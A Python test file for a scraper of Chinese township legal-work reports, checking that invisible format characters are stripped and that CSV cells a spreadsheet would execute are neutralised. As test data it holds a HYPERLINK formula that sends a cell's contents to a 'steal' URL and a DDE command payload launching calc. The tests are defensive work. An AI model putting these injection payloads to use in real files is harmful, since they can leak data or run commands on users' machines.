"""Wrong data from hostile text (issue 19, items 10–12): invisible characters, spreadsheet
formulas, conflicting sources, cache-busters, mirrors and floods of new links.

Each test reproduces an attack that once succeeded, against real parts: the demo portals' pages,
a real SQLite file, real release files, pages served on 127.0.0.1."""

from __future__ import annotations

import csv
import json
import unicodedata
from pathlib import Path

from parsers import extract_report, read_document
from parsers.models import Document
from parsers.normalise import normalise, strip_format_characters
from sitegen import pages
from tests.conftest import demo_file

ZWSP, ZWJ, BOM, RLO, LRI, PDI = "\u200b", "\u200d", "\ufeff", "\u202e", "\u2066", "\u2069"


def _hujiertai_page_with_format_characters() -> bytes:
    """胡吉尔台乡's demo page with zero-width characters inside its name (everywhere: meta tags,
    title, body), inside figures, and a right-to-left override at the start of its title."""
    page = demo_file("hujiertai").read_text(encoding="utf-8")
    page = page.replace("胡吉尔台乡", f"胡吉尔{ZWSP}台乡")
    page = page.replace('content="胡吉尔', f'content="{RLO}胡吉尔', 1)  # ArticleTitle
    page = page.replace("大型普法宣传活动12场次", f"大型普法宣传活动1{ZWSP}2场次")
    page = page.replace("审查各类合同90件", f"审查各类合同9{ZWJ}0件")
    page = page.replace("受益群众10000人次", f"受益群众10{BOM}0{LRI}00{PDI}人次")
    return page.encode("utf-8")


def test_zero_width_characters_do_not_split_a_township_name_or_a_figure() -> None:
    document = read_document(_hujiertai_page_with_format_characters(), "http://127.0.0.1/t20250120_1001.html")
    assert ZWSP in document.text and RLO in (document.title or "")  # the attack reaches the parser
    extraction = extract_report(document)
    assert extraction.report.place.township == "胡吉尔台乡"
    assert extraction.report.title == "胡吉尔台乡党委书记刘帅2024年度述法报告"
    values = {(o.indicator, o.value) for o in extraction.observations}
    assert ("legal_publicity_events", 12) in values and ("legal_publicity_events", 2) not in values
    assert ("contracts_reviewed", 90) in values
    assert ("people_reached", 10000) in values


def test_quotes_point_into_the_normalised_text_after_format_characters_are_removed() -> None:
    extraction = extract_report(read_document(_hujiertai_page_with_format_characters(), "http://127.0.0.1/a.html"))
    for text in (extraction.text, extraction.original, extraction.report.title or ""):
        assert not any(unicodedata.category(c) == "Cf" for c in text)
    assert extraction.observations
    for o in extraction.observations:
        assert extraction.text[o.start:o.end] == o.quote
    assert "大型普法宣传活动12场次" in [o.quote for o in extraction.observations]


def test_format_characters_in_a_plain_text_and_in_metadata_are_removed() -> None:
    normalised = normalise(f"{BOM}第一段{ZWSP}文字。\n{RLO}全年调解矛盾纠纷1{ZWSP}5起。\u00ad")
    assert normalised.text == "第一段文字。\n全年调解矛盾纠纷15起。"
    document = Document(url="http://127.0.0.1/x.txt", title=f"西湖{ZWSP}镇2024年法治政府建设年度报告", text="正文",
                        meta={"publisher": f"西{ZWJ}湖镇人民政府{RLO}"}, format="txt")
    extraction = extract_report(document)
    assert extraction.report.title == "西湖镇2024年法治政府建设年度报告"
    assert extraction.report.place.township == "西湖镇"


def test_every_format_character_is_removed_and_nothing_else() -> None:
    cf = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf"]
    assert len(cf) > 150
    assert strip_format_characters("a" + "".join(cf) + "b") == "ab"
    kept = "胡吉尔台乡 12次，“法律明白人”\n\t%①Ⅻ ½ é"
    assert strip_format_characters(kept) == kept


def _township_rows() -> tuple[list[dict[str, str]], list[dict[str, str]]]:
    rows = [{"report_id": "0123456789abcdef", "revision": "1", "township": f"胡吉尔{ZWSP}台乡", "county": "尼勒克县",
             "province": "新疆维吾尔自治区", "adcode": "654028", "year": "2024", "kind": "shufa", "published_on": "2025-01-20",
             "on_time": "true", "title": f"{RLO}告报法述度年4202", "url": "http://127.0.0.1/a.html", "status": "active"}]
    observations = [{"report_id": "0123456789abcdef", "indicator": "disputes_mediated", "value": "81", "unit": "件",
                     "qualifier": "exact", "quote": f"成功调解处理矛盾纠纷{LRI}81件{PDI}", "canonical": "true"}]
    return rows, observations


def test_a_right_to_left_override_in_a_title_never_reaches_the_html() -> None:
    rows, observations = _township_rows()
    page = pages.render_township(("新疆维吾尔自治区", "尼勒克县", f"胡吉尔{ZWSP}台乡"), rows, observations, {},
                                 {"0123456789abcdef": f"{RLO}正文{ZWSP}第一段"})
    html = page.content + page.title
    assert not any(unicodedata.category(c) == "Cf" for c in html)
    assert "告报法述度年4202" in html and "胡吉尔台乡" in html and "正文第一段" in html
    markdown = pages.render_indicator("disputes_mediated", {r["report_id"]: r for r in rows}, observations, 1)
    assert not any(unicodedata.category(c) == "Cf" for c in markdown)
    assert pages.text(f"{RLO}标题") == "标题" and pages.html_text(f"<b>{RLO}</b>") == "&lt;b&gt;&lt;/b&gt;"


# --- 11: formulas in CSV cells ------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"西仓镇2024年法治政府建设年度报告")'
FORMULA_LINES = "\n@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起。\n-2+3全年发放宣传资料300份。"


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def _cut(root: Path, items: list) -> Path:  # type: ignore[type-arg]
    from flows import release, store
    from parsers.models import Source
    from tests.helpers import NOW

    with store.open_store(root / "fazhi.sqlite") as conn:
        store.merge(conn, items, [], NOW)
        info = release.cut_release(conn, root / "releases", [Source(id="demo", name="演示", listing=["http://127.0.0.1/"])], NOW)
    assert info is not None
    return Path(info.path)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_jsonl_keeps_the_true_text(tmp_path: Path) -> None:
    from parsers.models import Observation
    from tests.conftest import seed_text
    from tests.helpers import harvested

    item = harvested("xicang", seed_text("xicang") + FORMULA_LINES, title=FORMULA_TITLE)
    negative = Observation(indicator="disputes_mediated", value=-3, unit="起", qualifier="exact", quote="调解-3起", start=0, end=5,
                           section="-总体情况")
    item = item.model_copy(update={"extraction": item.extraction.model_copy(update={"observations": [*item.extraction.observations, negative]})})
    folder = _cut(tmp_path, [item])

    report = _read(folder / "reports.csv")[0]
    assert report["title"] == "'" + FORMULA_TITLE
    assert report["url"].startswith("http") and report["revision"] == "1"
    observations = _read(folder / "observations.csv")
    quotes = [o["quote"] for o in observations]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起" in quotes
    assert "'-2+3全年发放宣传资料300份" in quotes
    assert not any(q.startswith(("=", "+", "-", "@", "\t", "\r")) for q in quotes)
    minus = next(o for o in observations if o["quote"] == "调解-3起")
    assert minus["value"] == "-3" and minus["section"] == "'-总体情况"  # the number stays a number; the text is text
    indicators = _read(folder / "indicators.csv")
    assert all(not (cell or "").startswith(("=", "+", "@")) for row in indicators for cell in row.values())

    record = json.loads((folder / "reports.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert record["report"]["title"] == FORMULA_TITLE  # JSONL: the true text
    assert "@SUM(1+1)" in record["text"]
    assert FORMULA_TITLE in (folder / "CHANGELOG.md").read_text(encoding="utf-8")  # the change log reads the true text back

    # The site reads the CSVs and shows the true text, not the mark.
    from sitegen.build import _read_csv as site_rows
    from sitegen.figures import FigureIndex

    assert site_rows(folder / "reports.csv")[0]["title"] == FORMULA_TITLE
    shown = [o["quote"] for o in FigureIndex(folder / "observations.csv", {report["report_id"]}).of_report(report["report_id"])]
    assert "@SUM(1+1)*cmd|' /C calc'!A0全年调解矛盾纠纷12起" in shown and "调解-3起" in shown


def test_neutralising_a_cell_is_undone_exactly() -> None:
    from parsers.spreadsheet import neutralise_cell, restore_cell

    for value in ["=1+1", "+86", "-", "@x", "\tx", "\rx", "'=1", "''", "'", "普通标题", "", "1-2", "a=b"]:
        written = neutralise_cell(value)
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert restore_cell(written) == value
